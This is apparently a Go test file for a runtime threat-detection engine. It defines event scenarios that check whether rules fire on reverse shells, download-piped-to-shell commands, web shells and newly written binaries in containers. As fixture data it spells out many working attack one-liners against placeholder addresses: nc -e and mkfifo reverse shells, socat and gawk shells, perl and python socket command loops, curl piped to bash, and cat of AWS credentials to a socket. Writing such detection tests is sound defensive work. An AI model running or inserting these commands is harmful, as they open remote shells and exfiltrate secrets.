package rules_test

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/vigilsec/vigil/detect"
	vigilv1 "github.com/vigilsec/vigil/proto/vigil/v1"
	"github.com/vigilsec/vigil/rules"
)

// configMap is the operator config map the tests load on top of the
// catalogue: it fills the threat lists that ship empty.
const configMap = "testdata/configmap"

// loadCatalogue loads the embedded catalogue plus the test config map and
// fails on any error or warning: the catalogue must load clean.
func loadCatalogue(t testing.TB, dir string) *detect.RuleSet {
	t.Helper()
	rs, errs := detect.LoadRules(rules.FS, dir)
	if len(errs) > 0 {
		t.Fatalf("catalogue does not load clean: %v", errs)
	}
	return rs
}

// scenario is a run of events and whether rule must fire on it.
type scenario struct {
	name   string
	rule   string
	fire   bool
	events []*vigilv1.Event
	// evidence, for sequence rules that fire, lists the indexes of the
	// events the single alert must carry, one per step, in order.
	evidence []int
}

func run(rs *detect.RuleSet, evs []*vigilv1.Event) []*detect.Alert {
	e := detect.NewEngine(detect.EngineConfig{}, nil, nil)
	e.SetRules(rs)
	var out []*detect.Alert
	for _, ev := range evs {
		e.Process(ev, func(a *detect.Alert) { out = append(out, a) })
	}
	return out
}

func evs(e ...*vigilv1.Event) []*vigilv1.Event { return e }

// rev is argv for a shell-like program: name then args.
func sh(args ...string) *vigilv1.Process {
	return proc("bash", "/usr/bin/bash", append([]string{"bash"}, args...)...)
}

func scenarios() []scenario {
	const (
		revShell    = "Reverse shell with network standard streams"
		outToSocket = "Command output sent to a network connection"
		dbShell     = "Shell started by a database server"
		ttyShell    = "Terminal shell in a container"
		dupShell    = "Reverse shell by duplicating a socket onto standard streams"
		relay       = "Socket relay started a shell"
		fedShell    = "Shell fed by a program that connected out"
		ttylessSh   = "Interactive shell on pipes"
		loopShell   = "Commands run by a one-line program that connected out"
		ptyShell    = "Shell on a terminal served by a program that connected out"
		webSrvSh    = "Shell started by a web server"
		pipeShell   = "Shell piped to a network client"
		newBin      = "New binary executed in a container"
		upperBin    = "Binary from the container's writable layer executed"
		shmBin      = "Binary executed from shared memory"
		newLib      = "New library loaded in a container"
		svcShell    = "Network service started an interactive shell"
		scanner     = "Network scanner executed"
		sniffer     = "Network sniffer executed"
		pentest     = "Pentest tool executed"
		tunnel      = "Tunnelling tool executed"
		backdoor    = "Backdoor tool executed"
		curlPipe    = "Download piped into a shell"
		decodePipe  = "Decoded payload piped into a shell"
		dlExec      = "Downloaded file executed"
		malHash     = "Known malicious executable run"
		customHash  = "Executable on your own threat list run"
		miner       = "Crypto miner executed"
		filelessR   = "Fileless execution"
		compat32    = "32-bit program executed"
		ioUring     = "io_uring set up in a container"
		procMem     = "Process memory written through proc"
		ptraceInj   = "Process injection through ptrace"
		vmWrite     = "Process memory written with process_vm_writev"
		traceme     = "Anti-debugging with PTRACE_TRACEME"
		kmod        = "Kernel module load attempted"
		defences    = "Defences disabled"
		crontabRm   = "Crontab removed"
		preload     = "Dynamic linker preload file written"
		history     = "Shell history truncated or removed"
		ldPre       = "LD_PRELOAD set for a program"
		loaderRun   = "Program run through the dynamic loader"
		wx          = "Memory made writable and executable"
		keySearch   = "Private keys or cloud secrets searched for"
		persistCmd  = "Persistence command"
		recon       = "Reconnaissance in a container"
		cloudID     = "Cloud credentials and identity discovery"
		imds        = "Instance metadata queried from a container"
		cloudCreds  = "Cloud credential files read"
		portScan    = "Port scan from one process"
		rawSock     = "Raw packet socket opened"
		relAgent    = "Cgroup release_agent opened for write"
		kernelHook  = "Kernel hook for host execution written from a container"
		mount       = "Mount inside a container"
		nsEnter     = "Namespace entered from a container"
		dockerSock  = "Container runtime socket accessed"
		runc        = "Runc binary opened for write"
		uffd        = "Userfaultfd used"
		elevate     = "Elevation to root through a setuid binary"
		privCmd     = "Privilege escalation command"
		bpfCtr      = "BPF program loaded in a container"
		setuidBit   = "Setuid bit set on a file"
		persistF    = "Persistence file modified"
		privF       = "Privilege file modified"
		logs        = "Logs or audit configuration tampered with"
		shadow      = "Password hashes read"
		sshKey      = "Private SSH key read"
		saToken     = "Kubernetes service account token read by a shell tool"
		c2DNS       = "DNS query for a command-and-control domain"
		c2IP        = "Connection to a command-and-control address"
		btcDNS      = "DNS query for a cryptocurrency domain"
		btcIP       = "Connection to a cryptocurrency address"
		abused      = "DNS query for an abused domain"
		btcRep      = "DNS query for a low-reputation cryptocurrency domain"
		malRep      = "DNS query for a malicious domain"
		suspRep     = "DNS query for a suspicious domain"
		bhDNS       = "DNS query for a black-holed domain"
		bhIP        = "Connection to a black-hole address"
		dropDNS     = "DNS query for a drop-point domain"
		dropIP      = "Connection to a drop-point address"
		phish       = "DNS query for a phishing domain"
		driveby     = "DNS query for a drive-by download domain"
		dga         = "DNS query for a DGA domain"
		tor         = "Connection to a Tor directory authority"
		torRelay    = "Tor relay reached by a directory authority"
		rebind      = "DNS answer points at the metadata service"
		dnsTunnel   = "DNS tunnel to one domain"
		selfDelete  = "Program deleted its own executable"
		msrWrite    = "CPU model-specific registers written"
		noArgs      = "Program started with no arguments"
		taskCreds   = "Container credentials fetched by a command-line tool"
		userns      = "User namespace created in a container"
		chattr      = "Immutable or append-only flag changed"
		sysBinary   = "System program or library replaced"
		kubePKI     = "Kubernetes cluster credentials read"
		rawMem      = "Kernel or physical memory opened"
		memRead     = "Process memory read through proc"
		sshTunnel   = "SSH tunnel opened"
		pkgInstall  = "Package installed in a running container"
		wiper       = "Data destruction command"
		kthreadName = "Program disguised as a kernel thread"
		envRead     = "Another process's environment read"
	)
	s := []scenario{}
	add := func(sc ...scenario) { s = append(s, sc...) }

	// Reverse shells.
	renamedBash := proc("kworker", "/tmp/.cache/kworker", "kworker", "-i")
	shim := anc{"containerd-shim", "/usr/bin/containerd-shim-runc-v2"}
	add(
		scenario{"kubectl exec -it: sh on a terminal whose parent is the runtime", ttyShell, true,
			evs(execEv(withTTY(withParents(proc("sh", "/bin/busybox", "sh"), shim)), stdio("tty", "tty", "tty"), inCtr)), nil},
		scenario{"bash typed inside that shell is the same session, not another finding", ttyShell, false,
			evs(execEv(withTTY(withParents(proc("bash", "/bin/bash", "bash"), anc{"sh", "/bin/busybox"}, shim)), stdio("tty", "tty", "tty"), inCtr)), nil},
		scenario{"a shell without a terminal (kubectl exec without -t) is not", ttyShell, false,
			evs(execEv(withParents(proc("sh", "/bin/busybox", "sh", "-c", "ls"), shim), inCtr)), nil},
		scenario{"dpkg running a maintainer script on the terminal of apt-get is not", ttyShell, false,
			evs(execEv(withTTY(withParents(proc("sh", "/usr/bin/dash", "/bin/sh", "/var/lib/dpkg/info/libc-bin.postinst", "triggered"),
				anc{"dpkg", "/usr/bin/dpkg"}, anc{"apt-get", "/usr/bin/apt-get"}, shim)), stdio("tty", "tty", "tty"), inCtr)), nil},
		scenario{"make running a recipe through sh -c is not", ttyShell, false,
			evs(execEv(withTTY(withParents(proc("sh", "/bin/sh", "/bin/sh", "-c", "go build ./..."), anc{"make", "/usr/bin/make"}, shim)), stdio("tty", "tty", "tty"), inCtr)), nil},
		scenario{"bash -l started by docker exec -it is", ttyShell, true,
			evs(execEv(withTTY(withParents(proc("bash", "/bin/bash", "bash", "-l"), shim)), stdio("tty", "tty", "tty"), inCtr)), nil},
		scenario{"a terminal shell on the host is not", ttyShell, false,
			evs(execEv(withTTY(withParents(proc("bash", "/usr/bin/bash", "bash"), anc{"sshd", "/usr/sbin/sshd"})), stdio("tty", "tty", "tty"))), nil},
	)
	pgBackend := proc("postgres", "/usr/lib/postgresql/16/bin/postgres", "/usr/lib/postgresql/16/bin/postgres", "-D", "/var/lib/postgresql/16/main")
	add(
		scenario{"COPY ... FROM PROGRAM: a PostgreSQL backend runs sh -c", dbShell, true,
			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "curl -s http://203.0.113.9/k.sh | bash"), pgBackend), inCtr)), nil},
		scenario{"redis-server starting a shell", dbShell, true,
			evs(execEv(childOf(sh("-c", "id"), proc("redis-server", "/usr/bin/redis-server", "redis-server", "*:6379")))), nil},
		scenario{"PostgreSQL's archive_command copying a WAL segment is not", dbShell, false,
			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "test ! -f /archive/000000010000000000000002 && cp pg_wal/000000010000000000000002 /archive/000000010000000000000002"), pgBackend))), nil},
		scenario{"a shell started by the application next to the database is not", dbShell, false,
			evs(execEv(childOf(sh("-c", "id"), proc("node", "/usr/bin/node", "node", "server.js")))), nil},
	)
	gawkLoop := proc("gawk", "/usr/bin/gawk", "gawk", `BEGIN {s = "/inet/tcp/0/10.0.0.9/4242"; while (1) {s |& getline c; while ((c |& getline l) > 0) print l |& s; close(c)}}`)
	gawkFile := proc("gawk", "/usr/bin/gawk", "gawk", "-f", "/opt/report/collect.awk")
	nodeEval := proc("node", "/usr/bin/node", "node", "--eval", `require("net").connect(443,"10.0.0.9")`)
	add(
		scenario{"a renamed copy of bash started with stdin and stdout on a TCP socket is a reverse shell", revShell, true,
			evs(execEv(renamedBash, stdio("tcp:10.0.0.9:4444", "tcp:10.0.0.9:4444", "tcp:10.0.0.9:4444"))), nil},
		scenario{"a command run by a reverse shell over IPv6 inherits the socket and fires too", revShell, true,
			evs(execEv(proc("id", "/usr/bin/id", "id"), stdio("tcp:[2001:db8::9]:443", "tcp:[2001:db8::9]:443", "pipe"))), nil},
		scenario{"a shell with stdin and stderr on a socket and stdout on a pipe is a reverse shell", revShell, true,
			evs(execEv(sh("-i"), stdio("tcp:10.0.0.9:4444", "pipe", "tcp:10.0.0.9:4444"))), nil},
		scenario{"a shell pipeline with pipes on its standard streams is not a reverse shell", revShell, false,
			evs(execEv(sh("-c", "ps aux | grep nginx | wc -l"), stdio("pipe", "pipe", "pipe"))), nil},
		scenario{"an ssh login shell on a terminal is not a reverse shell", revShell, false,
			evs(execEv(withTTY(sh("-l")), stdio("tty", "tty", "tty"))), nil},
		scenario{"a program started by a node process over unix socket pairs is not a reverse shell", revShell, false,
			evs(execEv(sh("-c", "git status"), stdio("unix:", "unix:", "unix:"))), nil},
		scenario{"a service xinetd starts on an accepted connection is not a reverse shell", revShell, false,
			evs(execEv(withParents(proc("in.tftpd", "/usr/sbin/in.tftpd"), anc{"xinetd", "/usr/sbin/xinetd"}),
				stdio("tcp:10.0.0.7:5000", "tcp:10.0.0.7:5000", "none"))), nil},
		scenario{"a shell whose parent merely calls itself inetd is still a reverse shell", revShell, true,
			evs(execEv(withParents(sh("-i"), anc{"inetd", "/tmp/inetd"}),
				stdio("tcp:10.0.0.7:5000", "tcp:10.0.0.7:5000", "none"))), nil},
	)
	add(
		scenario{"a command of a /dev/tcp command loop starts with stdout and stderr on the socket", outToSocket, true,
			evs(execEv(proc("id", "/usr/bin/id", "id"), stdio("pipe", "tcp:10.0.0.9:4444", "tcp:10.0.0.9:4444"))), nil},
		scenario{"cat sending a file out on a raw connection", outToSocket, true,
			evs(execEv(proc("cat", "/usr/bin/cat", "cat", "/root/.aws/credentials"), stdio("tty", "tcp:[2001:db8::9]:443", "tty"))), nil},
		scenario{"a program with stdout on a unix socket (journald) is not", outToSocket, false,
			evs(execEv(proc("nginx", "/usr/sbin/nginx", "nginx"), stdio("none", "unix:", "unix:"))), nil},
		scenario{"a program with stdin and stdout on the socket is the other rule's", outToSocket, false,
			evs(execEv(proc("id", "/usr/bin/id", "id"), stdio("tcp:10.0.0.9:4444", "tcp:10.0.0.9:4444", "pipe"))), nil},
		scenario{"a service xinetd starts with stdout on the connection is not", outToSocket, false,
			evs(execEv(withParents(proc("in.fingerd", "/usr/sbin/in.fingerd"), anc{"xinetd", "/usr/sbin/xinetd"}),
				stdio("none", "tcp:10.0.0.7:5000", "none"))), nil},
	)
	py := proc("python3", "/usr/bin/python3.11", "python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.9',4444))")
	bashTCP := sh("-i")
	bin := proc("sh", "/bin/busybox", "sh")
	pipeline := sh("-c", "cat f | sort")
	lone := proc("app", "/usr/local/bin/app", "app")
	add(
		scenario{"python dup2-ing a connected socket onto stdin, stdout and stderr is a reverse shell", dupShell, true,
			evs(dupEv(py, "dup2", 3, 0, "socket", "10.0.0.9", 4444), dupEv(py, "dup2", 3, 1, "socket", "10.0.0.9", 4444, after(time.Millisecond)),
				dupEv(py, "dup2", 3, 2, "socket", "10.0.0.9", 4444, after(2*time.Millisecond))), nil},
		scenario{"bash -i >& /dev/tcp/... 0>&1 duplicates the socket, then stdout onto stdin", dupShell, true,
			evs(dupEv(bashTCP, "dup2", 3, 1, "socket", "127.0.0.1", 1337), dupEv(bashTCP, "dup2", 1, 2, "socket", "127.0.0.1", 1337),
				dupEv(bashTCP, "dup2", 1, 0, "socket", "127.0.0.1", 1337)), nil},
		scenario{"busybox sh using dup3 onto two standard streams is a reverse shell", dupShell, true,
			evs(dupEv(bin, "dup3", 5, 0, "socket", "10.1.2.3", 53), dupEv(bin, "dup3", 5, 1, "socket", "10.1.2.3", 53)), nil},
		scenario{"a shell wiring pipes onto its standard streams for a pipeline is not", dupShell, false,
			evs(dupEv(pipeline, "dup2", 4, 0, "pipe", "", 0), dupEv(pipeline, "dup2", 5, 1, "pipe", "", 0)), nil},
		scenario{"one socket duplicated onto stdout alone stays below the count", dupShell, false,
			evs(dupEv(lone, "dup2", 7, 1, "socket", "10.0.0.2", 8125)), nil},
	)
	add(
		scenario{"socat handing bash a pty on a TCP connection is a reverse shell", relay, true,
			evs(execEv(proc("socat", "/usr/bin/socat", "socat", "TCP:10.0.0.9:4444", "EXEC:/bin/bash,pty,stderr,setsid,sigint,sane"))), nil},
		scenario{"a renamed socat still fires through the shell it hands the socket pair to only when named socat", relay, true,
			evs(execEv(proc("socat", "/opt/socat", "socat", "tcp4-listen:9001,reuseaddr,fork", "system:sh"))), nil},
		scenario{"ncat running a shell on the connection is a reverse shell", relay, true,
			evs(execEv(proc("ncat", "/usr/bin/ncat", "ncat", "10.0.0.9", "4444", "--sh-exec", "bash -i"))), nil},
		scenario{"busybox nc -e is a reverse shell", relay, true,
			evs(execEv(proc("busybox", "/bin/busybox", "busybox", "nc", "10.0.0.9", "4444", "-e", "/bin/sh"))), nil},
		scenario{"nc -e with combined flags is a reverse shell", relay, true,
			evs(execEv(proc("nc", "/usr/bin/nc.traditional", "nc", "-lvnpe", "/bin/sh", "4444"))), nil},
		scenario{"gawk opening a /inet/tcp network file is a reverse shell", relay, true,
			evs(execEv(proc("gawk", "/usr/bin/gawk", "awk", "BEGIN {s = \"/inet/tcp/0/10.0.0.9/4444\"; while (1) {s |& getline c; print c}}"))), nil},
		scenario{"awk summing a column is not", relay, false,
			evs(execEv(proc("awk", "/usr/bin/mawk", "awk", "{s += $1} END {print s}"))), nil},
		scenario{"socat forwarding a port to a backend is not", relay, false,
			evs(execEv(proc("socat", "/usr/bin/socat", "socat", "TCP-LISTEN:8080,fork", "TCP:backend:80"))), nil},
		scenario{"nc probing a port is not", relay, false,
			evs(execEv(proc("nc", "/usr/bin/nc", "nc", "-zv", "db", "5432"))), nil},
		scenario{"busybox sed -e is not", relay, false,
			evs(execEv(proc("busybox", "/bin/busybox", "busybox", "sed", "-e", "s/a/b/", "f"))), nil},
	)

	add(
		scenario{"the mkfifo loop of sh -i and nc is a reverse shell", pipeShell, true,
			evs(execEv(sh("-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f"))), nil},
		scenario{"telnet piped into bash piped into telnet is a reverse shell", pipeShell, true,
			evs(execEv(proc("sh", "/bin/busybox", "sh", "-c", "telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445"))), nil},
		scenario{"openssl s_client piped into sh is a reverse shell", pipeShell, true,
			evs(execEv(sh("-c", "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:443 > /tmp/s"))), nil},
		scenario{"a health check piping nc output to grep is not", pipeShell, false,
			evs(execEv(sh("-c", "echo ruok | nc localhost 2181 | grep imok"))), nil},
		scenario{"a pipeline into sh without a network client is not", pipeShell, false,
			evs(execEv(sh("-c", "cat setup.sh | sh"))), nil},
	)
	agent := proc("agent", "/tmp/agent", "./agent")
	agentSh := childOf(proc("sh", "/bin/dash", "sh"), agent)
	socatP := proc("socat", "/usr/local/bin/sc", "sc", "TCP:10.0.0.9:4444", "EXEC:/bin/bash")
	socatSh := childOf(proc("bash", "/usr/bin/bash", "bash", "-i"), socatP)
	app := proc("python3", "/usr/bin/python3", "python3", "app.py")
	appSh := childOf(proc("sh", "/bin/dash", "sh", "-c", "convert a.png b.jpg"), app)
	perlLoop := proc("perl", "/usr/bin/perl", "perl", "-e", `use IO::Socket;$c=IO::Socket::INET->new("10.0.0.9:4444");while(<$c>){print $c `+"`$_`"+`}`)
	ptyRelay := proc("python3", "/usr/bin/python3.12", "python3", "/tmp/.cache/r.py", "10.0.0.9")
	ssmWorker := proc("ssm-session-worker", "/usr/bin/ssm-session-worker", "ssm-session-worker", "session-1")
	jupyter := proc("jupyter-lab", "/usr/bin/python3.12", "/usr/bin/python3", "/usr/local/bin/jupyter-lab", "--ip=0.0.0.0")
	vsServer := proc("node", "/root/.vscode-server/bin/f1e16e1e/node", "node", "/root/.vscode-server/bin/f1e16e1e/out/server-main.js")
	vsPty := childOf(proc("node", "/root/.vscode-server/bin/f1e16e1e/node", "node", "/root/.vscode-server/bin/f1e16e1e/out/ptyHost.js"), vsServer)
	sshdP := proc("sshd-session", "/usr/lib/openssh/sshd-session", "sshd-session: alice [priv]")
	pipSetup := childOf(proc("python3", "/usr/bin/python3.12", "python3", "-c", "import io, os, sys, setuptools, tokenize; exec(compile(...))", "install"),
		proc("pip", "/usr/bin/python3.12", "/usr/bin/pip", "install", "legacy-pkg"))
	pyLoop := proc("python3", "/usr/bin/python3.12", "python3", "-u", "-c", "import socket,subprocess\ns=socket.create_connection(('10.0.0.9',443))\nwhile True:\n    s.sendall(subprocess.getoutput(s.recv(1024)))")
	runner := proc("gitlab-runner", "/usr/bin/gitlab-runner", "gitlab-runner", "run")
	runnerSh := childOf(proc("bash", "/usr/bin/bash", "bash", "--login"), runner)
	resolver := proc("agent", "/tmp/agent2", "./agent2")
	resolverSh := childOf(proc("sh", "/bin/dash", "sh"), resolver)
	dnsConnect := connectEv(resolver, "10.0.0.2", 53)
	dnsConnect.GetConnect().Protocol = "udp"
	add(
		scenario{"a Go program that connected out and feeds sh through a pipe is a reverse shell", fedShell, true,
			evs(connectEv(agent, "10.0.0.9", 443, failed("EINPROGRESS", 115)), execEv(agentSh, stdio("pipe", "pipe", "pipe"), after(time.Second))), []int{0, 1}},
		scenario{"a renamed socat handing bash a socket pair is a reverse shell", fedShell, true,
			evs(connectEv(socatP, "10.0.0.9", 4444), execEv(socatSh, stdio("unix:", "unix:", "unix:"), after(time.Second))), []int{0, 1}},
		scenario{"an app that talks to its database and runs sh -c is not", fedShell, false,
			evs(connectEv(app, "10.0.3.4", 5432), execEv(appSh, stdio("pipe", "pipe", "pipe"), after(time.Second))), nil},
		scenario{"a CI runner feeding its job script to bash --login is not", fedShell, false,
			evs(connectEv(runner, "10.0.9.9", 443), execEv(runnerSh, stdio("pipe", "pipe", "pipe"), after(time.Second))), nil},
		scenario{"a shell after only a DNS lookup is not", fedShell, false,
			evs(dnsConnect, execEv(resolverSh, stdio("pipe", "pipe", "pipe"), after(time.Second))), nil},
		scenario{"cat fifo | sh -i 2>&1 | renamed-nc host port > fifo is a reverse shell", ttylessSh, true,
			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "/bin/sh", "-i"), proc("sh", "/usr/bin/dash", "sh", "-c", "cat /tmp/f | /bin/sh -i 2>&1 | /tmp/x 10.0.0.9 4444 > /tmp/f")),
				stdio("pipe", "pipe", "pipe"))), nil},
		scenario{"bash -li on pipes is too", ttylessSh, true,
			evs(execEv(childOf(proc("bash", "/usr/bin/bash", "bash", "-l", "-i"), proc("python3", "/usr/bin/python3", "python3", "x.py")), stdio("pipe", "pipe", "pipe"))), nil},
		scenario{"an interactive shell on a terminal is not", ttylessSh, false,
			evs(execEv(childOf(proc("bash", "/usr/bin/bash", "bash", "-i"), proc("tmux", "/usr/bin/tmux", "tmux")), stdio("tty", "tty", "tty"))), nil},
		scenario{"sh -c on pipes is not", ttylessSh, false,
			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "echo -i"), proc("python3", "/usr/bin/python3", "python3", "x.py")), stdio("pipe", "pipe", "pipe"))), nil},
		scenario{"a script run by bash -i is not", ttylessSh, false,
			evs(execEv(childOf(proc("bash", "/usr/bin/bash", "bash", "-i", "/ci/job.sh"), proc("runner", "/usr/bin/runner", "runner")), stdio("pipe", "pipe", "pipe"))), nil},
		scenario{"ssh host bash -i, a remote login without a terminal, is not", ttylessSh, false,
			evs(execEv(withParents(proc("bash", "/usr/bin/bash", "bash", "-i"), anc{"bash", "/usr/bin/bash"}, anc{"sshd-session", "/usr/lib/openssh/sshd-session"}),
				stdio("pipe", "pipe", "pipe"))), nil},
		scenario{"perl -e reading commands from a socket and running them in backticks (no shell)", loopShell, true,
			evs(connectEv(perlLoop, "10.0.0.9", 4444), execEv(childOf(proc("id", "/usr/bin/id", "id"), perlLoop), after(time.Second))), []int{0, 1}},
		scenario{"python3 -u -c with subprocess.getoutput", loopShell, true,
			evs(connectEv(pyLoop, "10.0.0.9", 443, failed("EINPROGRESS", 115)), execEv(childOf(proc("sh", "/usr/bin/dash", "/bin/sh", "-c", "uname -a"), pyLoop), after(time.Second))), []int{0, 1}},
		scenario{"gawk connecting through /inet/tcp and running each command through sh -c", loopShell, true,
			evs(connectEv(gawkLoop, "10.0.0.9", 4242), execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "id"), gawkLoop), after(time.Second))), []int{0, 1}},
		scenario{"an awk program kept in a file (-f) that connects and runs sh is not", loopShell, false,
			evs(connectEv(gawkFile, "10.0.0.9", 4242), execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "id"), gawkFile), after(time.Second))), nil},
		scenario{"node --eval fetching and running commands", loopShell, true,
			evs(connectEv(nodeEval, "10.0.0.9", 443), execEv(childOf(proc("sh", "/usr/bin/dash", "/bin/sh", "-c", "whoami"), nodeEval), after(time.Second))), []int{0, 1}},
		scenario{"an application from a script file that calls its API and runs sh -c is not", loopShell, false,
			evs(connectEv(app, "10.0.3.4", 443), execEv(appSh, after(time.Second))), nil},
		scenario{"a one-liner that only resolves a name before running sh is not", loopShell, false,
			evs(func() *vigilv1.Event {
				e := connectEv(pyLoop, "10.0.0.2", 53)
				e.GetConnect().Protocol = "udp"
				return e
			}(),
				execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "id"), pyLoop), after(time.Second))), nil},
		scenario{"pip's legacy setup.py one-liner fetching a dependency and running the compiler is not", loopShell, false,
			evs(connectEv(pipSetup, "151.101.0.223", 443), execEv(childOf(proc("x86_64-linux-gnu-gcc", "/usr/bin/x86_64-linux-gnu-gcc-12", "x86_64-linux-gnu-gcc", "-c", "ext.c"), pipSetup), after(time.Second))), nil},
		scenario{"a perl text filter (perl -pe) running date without a connection is not", loopShell, false,
			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "date"), proc("perl", "/usr/bin/perl", "perl", "-pe", "s/x/y/")))), nil},
		scenario{"a Python pty relay that connected out serves bash -i on a terminal", ptyShell, true,
			evs(connectEv(ptyRelay, "10.0.0.9", 4444), execEv(withTTY(childOf(proc("bash", "/usr/bin/bash", "bash", "--norc", "-i"), ptyRelay)), stdio("tty", "tty", "tty"), after(time.Second))), []int{0, 1}},
		scenario{"AWS Session Manager's worker serving a shell is not", ptyShell, false,
			evs(connectEv(ssmWorker, "52.94.1.10", 443), execEv(withTTY(childOf(proc("sh", "/usr/bin/dash", "sh"), ssmWorker)), stdio("tty", "tty", "tty"), after(time.Second))), nil},
		scenario{"sshd checking a password with LDAP before the login shell is not", ptyShell, false,
			evs(connectEv(sshdP, "10.0.5.5", 389), execEv(withTTY(childOf(proc("bash", "/usr/bin/bash", "-bash"), sshdP)), stdio("tty", "tty", "tty"), after(time.Second))), nil},
		scenario{"a JupyterLab terminal after the server fetched its news is not", ptyShell, false,
			evs(connectEv(jupyter, "151.101.0.223", 443), execEv(withTTY(childOf(proc("bash", "/usr/bin/bash", "bash"), jupyter)), stdio("tty", "tty", "tty"), after(time.Second))), nil},
		scenario{"a VS Code server terminal is not", ptyShell, false,
			evs(connectEv(vsServer, "13.107.5.93", 443), execEv(withTTY(childOf(proc("bash", "/usr/bin/bash", "bash"), vsPty)), stdio("tty", "tty", "tty"), after(time.Second))), nil},
		scenario{"a relay started by hand from an SSH session still is", ptyShell, true,
			evs(connectEv(ptyRelay, "10.0.0.9", 4444), execEv(withTTY(childOf(proc("bash", "/usr/bin/bash", "bash", "-i"), ptyRelay)), stdio("tty", "tty", "tty"), after(time.Second))), []int{0, 1}},
		scenario{"a relay's shell without a terminal is not this rule's (it is the pipe rule's)", ptyShell, false,
			evs(connectEv(ptyRelay, "10.0.0.9", 4444), execEv(childOf(proc("bash", "/usr/bin/bash", "bash", "-i"), ptyRelay), stdio("pipe", "pipe", "pipe"), after(time.Second))), nil},
		scenario{"a PHP web shell running id through sh -c", webSrvSh, true,
			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "id"), proc("php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")), inCtr)), nil},
		scenario{"nginx starting a shell", webSrvSh, true,
			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "curl -s http://10.0.0.9/x | sh"), proc("nginx", "/usr/sbin/nginx", "nginx: worker process")))), nil},
		scenario{"Tomcat starting bash", webSrvSh, true,
			evs(execEv(childOf(proc("bash", "/usr/bin/bash", "bash", "-c", "whoami"),
				proc("java", "/opt/java/openjdk/bin/java", "java", "-classpath", "/usr/local/tomcat/bin/bootstrap.jar", "org.apache.catalina.startup.Bootstrap", "start")))), nil},
		scenario{"PHP's mail() running sendmail through sh -c is not", webSrvSh, false,
			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "/usr/sbin/sendmail -t -i"), proc("php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")), inCtr)), nil},
		scenario{"a program named nginx elsewhere is not a web server", webSrvSh, false,
			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "id"), proc("nginx", "/opt/app/nginx", "nginx")))), nil},
		scenario{"a shell with no earlier connection is a partial sequence", fedShell, false,
			evs(execEv(childOf(proc("sh", "/bin/dash", "sh"), proc("make", "/usr/bin/make", "make")), stdio("pipe", "pipe", "pipe"))), nil},
	)

	// New binaries and libraries.
	curl := proc("curl", "/usr/bin/curl", "curl", "-o", "/tmp/x", "http://10.0.0.9/x")
	dropped := proc("x", "/tmp/x", "/tmp/x")
	writer := proc("python3", "/usr/bin/python3", "python3", "dl.py")
	renamed := proc("kubectl", "/usr/local/bin/kubectl", "kubectl")
	cw := proc("cc1", "/usr/bin/cc", "cc")
	scriptW := proc("bash", "/usr/bin/bash", "bash")
	script := proc("run.sh", "/usr/bin/dash", "/bin/sh", "/app/run.sh")
	dpkg := proc("dpkg", "/usr/bin/dpkg", "dpkg", "-i", "jq.deb")
	jq := proc("jq", "/usr/bin/jq", "jq")
	fakeDpkg := proc("dpkg", "/tmp/dpkg", "dpkg")
	fakeOut := proc("miner", "/tmp/miner", "/tmp/miner")
	add(
		scenario{"a file written in a container and then executed is a new binary", newBin, true,
			evs(writeEv(curl, "/tmp/x", inCtr), execEv(dropped, inCtr, after(time.Second))), []int{0, 1}},
		scenario{"a file written with creat(2) and then executed is a new binary", newBin, true,
			evs(openEv(cw, "creat", "/tmp/x", oWRONLY|oCREAT|oTRUNC, inCtr), execEv(dropped, inCtr, after(time.Second))), []int{0, 1}},
		scenario{"a file written under one name, renamed, and executed under the new one is a new binary", newBin, true,
			evs(writeEv(writer, "/tmp/.k", inCtr), renameEv(writer, "renameat2", "/tmp/.k", "/usr/local/bin/kubectl", inCtr, after(time.Second)),
				execEv(renamed, inCtr, after(2*time.Second))), []int{1, 2}},
		scenario{"a script written and then run through its interpreter is a new binary", newBin, true,
			evs(writeEv(scriptW, "/app/run.sh", inCtr), execEv(script, inCtr, filename("/app/run.sh"), after(time.Second))), []int{0, 1}},
		scenario{"a writer renamed dpkg is not a package manager", newBin, true,
			evs(writeEv(fakeDpkg, "/tmp/miner", inCtr), execEv(fakeOut, inCtr, after(time.Second))), []int{0, 1}},
		scenario{"a written file run as an argument of the dynamic loader is a new binary", newBin, true,
			evs(writeEv(curl, "/tmp/x", inCtr), execEv(proc("ld-linux-x86-64", "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
				"/lib64/ld-linux-x86-64.so.2", "/tmp/x"), inCtr, after(time.Second))), []int{0, 1}},
		scenario{"a payload executed after 100 decoy files were written is a new binary", newBin, true,
			func() []*vigilv1.Event {
				out := evs(writeEv(curl, "/tmp/x", inCtr))
				for i := range 100 {
					out = append(out, writeEv(curl, fmt.Sprintf("/tmp/decoy%d", i), inCtr, after(time.Millisecond)))
				}
				return append(out, execEv(dropped, inCtr, after(time.Second)))
			}(), []int{0, 101}},
		scenario{"a program the Go toolchain built in a build container and its tests ran is not new", newBin, false,
			evs(renameEv(proc("go", "/usr/local/go/bin/go", "go", "build", "-o", "app"), "renameat", "/tmp/go-build1/b001/exe/a.out", "/src/app", inCtr),
				execEv(proc("app", "/src/app", "./app"), inCtr, after(time.Second))), nil},
		scenario{"a program a linker wrote and a test ran is not new", newBin, false,
